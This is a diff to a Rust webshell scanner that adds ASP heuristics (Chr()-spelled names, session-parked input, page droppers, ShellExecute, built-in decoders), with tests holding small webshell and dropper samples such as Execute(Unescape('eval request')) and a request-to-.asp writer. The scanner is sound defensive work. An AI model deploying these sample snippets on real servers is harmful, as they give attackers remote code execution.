@@ -67,12 +67,18 @@ const ASP_SINKS: &[Sink] = &[
             ".run ",
             "process.start(",
             ".arguments",
+            ".shellexecute",
         ],
-        file_needs: &["wscript.shell", "processstartinfo", "process.start("],
+        file_needs: &[
+            "wscript.shell",
+            "processstartinfo",
+            "process.start(",
+            "shell.application",
+        ],
         id: "scan.heuristic.asp_exec",
         severity: Severity::Critical,
         title: "ASP(X) runs commands from the request",
-        why: "hands it to a command shell (WScript.Shell / Process.Start)",
+        why: "hands it to a command shell (WScript.Shell, Shell.Application, Process.Start)",
         bare: false,
     },
     Sink {
@@ -162,15 +168,161 @@ const JSP_SINKS: &[Sink] = &[
 
 /// ASP/ASPX flows; `t` is the lowercased page.
 pub(crate) fn asp(t: &str, hits: &mut Vec<Hit>) {
-    follow(t, ASP_INPUT, ASP_SINKS, &[':', '\n', ';'], hits);
+    // Input parked in the session (`Session("k") = Request("x")`) comes back as input.
+    let parks = t.match_indices("session(").any(|(p, _)| {
+        let line = t[p..].split(['\n', ':']).next().unwrap_or("");
+        line.split_once('=')
+            .is_some_and(|(_, rhs)| ASP_INPUT.iter().any(|i| rhs.trim_start().starts_with(i)))
+    });
+    let mut inputs = ASP_INPUT.to_vec();
+    if parks {
+        inputs.push("session(");
+    }
+    follow(t, &inputs, ASP_SINKS, &[':', '\n', ';'], hits);
     if !hits.iter().any(|h| h.check == "scan.heuristic.asp_eval") {
         decoded_execute(t, hits);
     }
+    if !hits
+        .iter()
+        .any(|h| h.check.starts_with("scan.heuristic.asp_eval"))
+    {
+        chr_assembly(t, hits);
+    }
+    page_drop(t, hits);
+}
+
+/// Names that are no business of a string assembled character by character. Not
+/// `WScript.Shell`: a Chinese CMS spells that one out to get past antivirus on its own
+/// server-information page.
+const ASSEMBLED_WORDS: &[&str] = &["request", "eval", "execute"];
+
+/// `eval(chr(114)+chr(101)+…)`: a word spelled out with `Chr()`, joined by `+` or `&`, so that
+/// no signature sees `request` or `execute`. Benign pages use `Chr(13) & Chr(10)`, not words.
+fn chr_assembly(t: &str, hits: &mut Vec<Hit>) {
+    let mut chain_end = 0;
+    for (p, _) in t.match_indices("chr").take(2000) {
+        if p < chain_end || t[..p].ends_with(is_ident) {
+            continue;
+        }
+        let mut word = String::new();
+        let mut rest = &t[p..];
+        while let Some(r) = ["chrw(", "chrb(", "chr("]
+            .iter()
+            .find_map(|f| rest.strip_prefix(f))
+        {
+            let Some(close) = r.find(')') else { break };
+            let arg = r[..close].trim();
+            let code = match arg.strip_prefix("&h") {
+                Some(hex) => u32::from_str_radix(hex, 16).ok(),
+                None => arg.parse::<u32>().ok(),
+            };
+            let Some(c) = code.and_then(char::from_u32) else {
+                break;
+            };
+            word.push(c.to_ascii_lowercase());
+            rest = r[close + 1..].trim_start();
+            match rest.strip_prefix(['+', '&']) {
+                Some(r) => rest = r.trim_start(),
+                None => break,
+            }
+        }
+        chain_end = t.len() - rest.len();
+        if let Some(w) = ASSEMBLED_WORDS.iter().find(|w| word.contains(*w)) {
+            hits.push(Hit {
+                check: "scan.heuristic.asp_chr_assembly",
+                severity: Severity::High,
+                title: "ASP spells out code with Chr()".into(),
+                why: format!(
+                    "a chain of Chr() calls spells `{}`, which holds `{w}`: a name assembled so that no signature sees it",
+                    word.escape_debug()
+                ),
+                attack: vec!["T1505.003".into(), "T1027".into()],
+                offset: Some(p),
+                rule: None,
+            });
+            return;
+        }
+    }
+}
+
+/// `s.Write x.responseBody`: a stream filled with a download's bytes as they came.
+fn writes_download(stmt: &str) -> bool {
+    let Some(p) = stmt.find(".write") else {
+        return false;
+    };
+    let arg = stmt[p + ".write".len()..]
+        .trim_start_matches(|c: char| c.is_ascii_alphabetic())
+        .trim_start_matches([' ', '(']);
+    let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
+    name_len > 0 && arg[name_len..].starts_with(".responsebody")
+}
+
+/// File extensions a web server runs as code.
+const PAGE_EXTENSIONS: &[&str] = &[
+    ".asp\"", ".aspx\"", ".asa\"", ".cer\"", ".cdx\"", ".ashx\"", ".php\"", ".jsp\"",
+];
+
+/// A page that makes another page: request data, or bytes fetched from a URL, saved under a
+/// script name the page itself gives (`SaveToFile Server.MapPath("x.asp")`). CMS code saves
+/// settings into `config.asp` too, but as strings it builds, not the request's data as sent.
+fn page_drop(t: &str, hits: &mut Vec<Hit>) {
+    let saves = |marks: &[&str]| {
+        marks.iter().flat_map(|m| t.match_indices(m)).any(|(p, _)| {
+            let stmt = t[p..].split(['\n', ':']).next().unwrap_or("");
+            PAGE_EXTENSIONS.iter().any(|e| stmt.contains(e))
+        })
+    };
+    if !saves(&["savetofile", "createtextfile", "opentextfile"]) {
+        return;
+    }
+    // The downloaded bytes go into a stream as they came (`s.Write x.responseBody`) and the
+    // stream is saved as a page; a cache that stores cleaned-up text is not this.
+    let fetched = (t.contains("xmlhttp") || t.contains("winhttp"))
+        && saves(&["savetofile"])
+        && t.split(['\n', ':']).any(writes_download);
+    // Request data written as it came: `s.WriteText Request("d")`, `f.Write(shell)`.
+    let mut direct: Vec<&str> = Vec::new();
+    let mut written = false;
+    for stmt in t.split(['\n', ':']) {
+        let stmt = stmt.trim();
+        if let Some((var, rhs)) = assignment(stmt)
+            && bare_value(rhs, ASP_INPUT, &direct)
+            && direct.len() < 64
+        {
+            direct.push(var);
+        }
+        for mark in [".writetext", ".write(", ".write ", ".writeline"] {
+            if let Some(p) = stmt.find(mark)
+                && !stmt[..p].trim_end().ends_with("response")
+                && bare_argument(&stmt[p..], mark, ASP_INPUT, &direct)
+            {
+                written = true;
+            }
+        }
+    }
+    if !(fetched || written) {
+        return;
+    }
+    let p = t.find("savetofile").or_else(|| t.find("createtextfile"));
+    hits.push(Hit {
+        check: "scan.heuristic.asp_page_drop",
+        severity: Severity::High,
+        title: "ASP saves a new page from the request or the web".into(),
+        why: if written {
+            "the page writes request data, as sent, into a file with a script extension it names itself: whoever sends the request plants a page (a webshell dropper)".into()
+        } else {
+            "the page downloads bytes from a URL (XMLHTTP responseBody) and saves them under a script extension: a second-stage webshell fetched and planted".into()
+        },
+        attack: vec!["T1505.003".into(), "T1105".into()],
+        offset: p,
+        rule: None,
+    });
 }
 
 /// `Execute Decode("6877…")`, `Execute(UnEncode(hu))`: code evaluated from what a function of
-/// the page itself returns, a decoder. CMS code evaluates strings it writes out
-/// (`Execute "Call " & action`), not the output of its own functions.
+/// the page itself returns, a decoder, or a built-in one (`Execute(Unescape("eval%20…"))`,
+/// `StrReverse`). CMS code evaluates strings it writes out (`Execute "Call " & action`), not
+/// the output of its own functions.
 fn decoded_execute(t: &str, hits: &mut Vec<Hit>) {
     for mark in ["executeglobal", "execute", "eval"] {
         for (p, _) in t.match_indices(mark) {
@@ -187,16 +339,23 @@ fn decoded_execute(t: &str, hits: &mut Vec<Hit>) {
             if name_len < 2 || !arg[name_len..].trim_start().starts_with('(') {
                 continue;
             }
-            let defined = [format!("function {name}("), format!("function {name} (")]
-                .iter()
-                .any(|d| t.contains(d.as_str()));
+            let builtin = BUILTIN_DECODERS.contains(&name);
+            let defined = builtin
+                || [format!("function {name}("), format!("function {name} (")]
+                    .iter()
+                    .any(|d| t.contains(d.as_str()));
             if defined {
                 hits.push(Hit {
                     check: "scan.heuristic.asp_eval_decoded",
                     severity: Severity::High,
                     title: "ASP evaluates code its own function decodes".into(),
                     why: format!(
-                        "`{mark}` runs the string that `{name}()`, a function defined in the page, returns: code kept encoded in the file and decoded only to run"
+                        "`{mark}` runs the string that `{name}()`, {}, returns: code kept encoded in the file and decoded only to run",
+                        if builtin {
+                            "a decoder built into the script language"
+                        } else {
+                            "a function defined in the page"
+                        }
                     ),
                     attack: vec!["T1505.003".into(), "T1027".into()],
                     offset: Some(p),
@@ -207,6 +366,9 @@ fn decoded_execute(t: &str, hits: &mut Vec<Hit>) {
         }
     }
 }
+
+/// VBScript/JScript functions that turn an unreadable string into code text.
+const BUILTIN_DECODERS: &[&str] = &["unescape", "strreverse", "decodeuricomponent", "decodeuri"];
 
 /// JSP flows; `t` is the lowercased page.
 pub(crate) fn jsp(t: &str, hits: &mut Vec<Hit>) {
@@ -309,7 +471,16 @@ fn bare_value(value: &str, inputs: &[&str], direct: &[&str]) -> bool {
             .any(|i| arg.starts_with(i) || object.starts_with(i))
         {
             let close = arg.find(')').map_or(arg.len(), |c| c + 1);
-            let rest = arg[close..].trim_start();
+            let mut rest = arg[close..].trim_start();
+            // `+''` and `&""` only make the input a string: nothing is joined to it.
+            for empty in ["''", "\"\""] {
+                if let Some(r) = rest
+                    .strip_prefix(['&', '+'])
+                    .and_then(|r| r.trim_start().strip_prefix(empty))
+                {
+                    rest = r.trim_start();
+                }
+            }
             return !rest.starts_with(['&', '+', '.']);
         }
         let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
@@ -424,9 +595,9 @@ mod tests {
             ["scan.heuristic.asp_eval"]
         );
         let write = "<%set s=server.createObject(\"Adodb.Stream\")%><%s.writetext request(\"d\")%>\n<%s.SaveToFile server.mappath(\"x.asp\"),2%>";
-        // The content went in one statement and the save is another: no single statement
-        // carries both, so only a flow through a variable would count. Nothing here.
-        assert!(ids(asp, write).is_empty());
+        // The content went in one statement and the save is another: no flow of the path, but
+        // request data saved as a page the file names is a dropper (`page_drop`).
+        assert_eq!(ids(asp, write), ["scan.heuristic.asp_page_drop"]);
         let path = "set fso=server.createobject(\"scripting.filesystemobject\")\npath=request(\"path\")\nset da=fso.createtextfile(path,true)";
         assert_eq!(ids(asp, path), ["scan.heuristic.asp_write"]);
         let wrapped = "<%execute(decode(request(\"x\")))%>";
@@ -441,6 +612,59 @@ mod tests {
         // A function of the page that is not called under Execute, and Execute of a string.
         let benign = "<%\nfunction show(s)\nend function\nshow(\"x\")\nExecute \"Call \" & a\n%>";
         assert!(ids(asp, benign).is_empty());
+        // Built-in decoders: the page defines nothing, the language decodes.
+        for page in [
+            "<%execute(unescape(\"eval%20request%28%22x%22%29\"))%>",
+            "<%Execute StrReverse(\")\"\"x\"\"(tseuqer lave\")%>",
+        ] {
+            assert_eq!(
+                ids(asp, &page.to_lowercase()),
+                ["scan.heuristic.asp_eval_decoded"],
+                "{page}"
+            );
+        }
+        // Unescape of text that is written out, not run.
+        assert!(ids(asp, "<%response.write unescape(\"a%20b\")%>").is_empty());
+    }
+
+    #[test]
+    fn asp_assembled_and_parked_input() {
+        let chr = "<%eval (eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))(\"sz\"))%>";
+        assert_eq!(ids(asp, chr), ["scan.heuristic.asp_chr_assembly"]);
+        let hex = "<%x = chrw(&h65) & chrw(&h76) & chrw(&h61) & chrw(&h6c)%>";
+        assert_eq!(ids(asp, hex), ["scan.heuristic.asp_chr_assembly"]);
+        assert!(ids(asp, "<%response.write \"a\" & chr(13) & chr(10) & \"b\"%>").is_empty());
+        let session = "<script language=\"vbscript\" runat=\"server\">\nif request(\"1\")<>\"\" then session(\"k\")=request(\"1\")\nif session(\"k\")<>\"\" then execute(session(\"k\"))\n</script>";
+        assert_eq!(ids(asp, session), ["scan.heuristic.asp_eval"]);
+        // A session value the page set itself is not input.
+        assert!(ids(asp, "<%session(\"a\")=now()\nexecute(session(\"a\"))%>").is_empty());
+        let coerced =
+            "<script runat=server language=javascript>eval(request.form('#')+'')</script>";
+        assert_eq!(ids(asp, coerced), ["scan.heuristic.asp_eval"]);
+    }
+
+    #[test]
+    fn asp_page_droppers() {
+        let stream = "<%set s=server.createobject(\"adodb.stream\")\ns.open\ns.writetext request(\"d\")\ns.savetofile server.mappath(\"dama.asp\"),2%>";
+        assert_eq!(ids(asp, stream), ["scan.heuristic.asp_page_drop"]);
+        let text = "<%\nshell=request(\"txt\")\nset t=fso.createtextfile(server.mappath(\"up1oad.asp\"))\nt.write(shell)\n%>";
+        assert_eq!(ids(asp, text), ["scan.heuristic.asp_page_drop"]);
+        let fetch = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nx.open \"get\",\"http://example.test/a.txt\",false\nx.send()\nset g = createobject(\"adodb.stream\")\ng.write(x.responsebody)\ng.savetofile server.mappath(\"b.asp\"),2\n%>";
+        assert_eq!(ids(asp, fetch), ["scan.heuristic.asp_page_drop"]);
+        // Settings saved into config.asp as strings the page builds; a remote image saved as .jpg.
+        let config = "<%\nset f=fso.createtextfile(server.mappath(\"config.asp\"))\nf.write \"const sitename=\"\"\" & request.form(\"name\") & \"\"\"\"\n%>";
+        assert!(ids(asp, config).is_empty());
+        let image = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nset g = createobject(\"adodb.stream\")\ng.write(x.responsebody)\ng.savetofile server.mappath(\"up/1.jpg\"),2\n%>";
+        assert!(ids(asp, image).is_empty());
+        // A page cache: fetched HTML, cleaned, stored as text in an .asp file it includes.
+        let cache = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nbody = bytes2str(x.responsebody)\nset f = fso.opentextfile(server.mappath(\"cache.asp\"), 8, true)\nf.write(trim(body))\n%>";
+        assert!(ids(asp, cache).is_empty());
+    }
+
+    #[test]
+    fn asp_shell_application() {
+        let page = "<%\nset sa = createobject(\"shell.application\")\nexe = request.form(\"text1\")\nsa.shellexecute exe, request.form(\"text2\"), \"\", \"open\", 0\n%>";
+        assert_eq!(ids(asp, page), ["scan.heuristic.asp_exec"]);
     }
 
     #[test]
